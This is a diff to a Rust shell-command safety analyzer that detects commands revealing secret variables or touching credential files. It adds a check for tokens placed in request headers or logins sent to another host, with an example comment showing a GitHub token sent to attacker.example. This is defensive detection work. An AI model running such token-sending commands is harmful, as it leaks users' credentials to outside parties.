@@ -312,7 +312,9 @@ impl Analyzer<'_> {
         }
         let p = self.norm(w, cwd);
         // Which input devices exist is no keystroke.
-        let device_names = verb == "lists" && paths::keystroke_device(&p);
+        // A project file's name and metadata are the project's, whatever
+        // it holds (`stat .env`); the user's own stores are not even listed.
+        let device_names = verb == "lists" && (paths::keystroke_device(&p) || self.inside(&p));
         if let Some(why) = paths::credential_normalized(&p, &w.text).filter(|_| !device_names) {
             self.block(format!("touches a credential: {why}"));
             return None;
@@ -471,9 +473,42 @@ impl Analyzer<'_> {
                                     | "--body-data"
                             )
                         }));
-                if prints || in_data {
+                // In a header, a login or a URL's user part, a token goes to
+                // the host: to its own service that is its use; to any other
+                // it is sent away (`-H "Authorization: Bearer $GITHUB_TOKEN"
+                // https://attacker.example`).
+                let clones =
+                    matches!(c.lb.as_str(), "git" | "hg" | "svn") && w.text.contains("://");
+                let credential_slot = clones
+                    || network
+                        && (w.text.contains("://")
+                            || c.args.get(i.wrapping_sub(2)).is_some_and(|prev| {
+                                short_flags(prev).is_some_and(|b| b.ends_with(['u', 'H']))
+                                    || matches!(
+                                        prev.as_str(),
+                                        "-H" | "--header"
+                                            | "-u"
+                                            | "--user"
+                                            | "--proxy-user"
+                                            | "--oauth2-bearer"
+                                            | "--http-user"
+                                            | "--http-password"
+                                            | "--password"
+                                    )
+                            })
+                            || ["--header=", "--http-password=", "--password=", "--user="]
+                                .iter()
+                                .any(|f| w.text.starts_with(f)));
+                let elsewhere =
+                    credential_slot && super::tokens::foreign_host(&var, &c.args).is_some();
+                // `test -n "$TOKEN"`: whether it is set, never its value.
+                let tested = matches!(c.lb.as_str(), "test" | "[" | "[[")
+                    && c.args
+                        .get(i.wrapping_sub(2))
+                        .is_some_and(|prev| prev == "-n" || prev == "-z");
+                if prints || in_data || elsewhere {
                     self.block(format!("reveals the secret variable ${var}"));
-                } else {
+                } else if !tested {
                     self.ask(format!("uses the secret variable ${var}"));
                 }
             }
@@ -490,7 +525,10 @@ impl Analyzer<'_> {
                     // The metadata of the system's own secret files (`stat
                     // /etc/shadow`) is public; their content stays out of
                     // reach. The user's own stores are not even listed.
-                    if metadata_only(&c.lb) && (p.starts_with("/etc/") || p.starts_with("/dev/")) {
+                    // So is the metadata of the project's own (`stat .env`).
+                    if metadata_only(&c.lb)
+                        && (p.starts_with("/etc/") || p.starts_with("/dev/") || self.inside(&p))
+                    {
                         continue;
                     }
                     self.block(format!("touches a credential: {why}"));
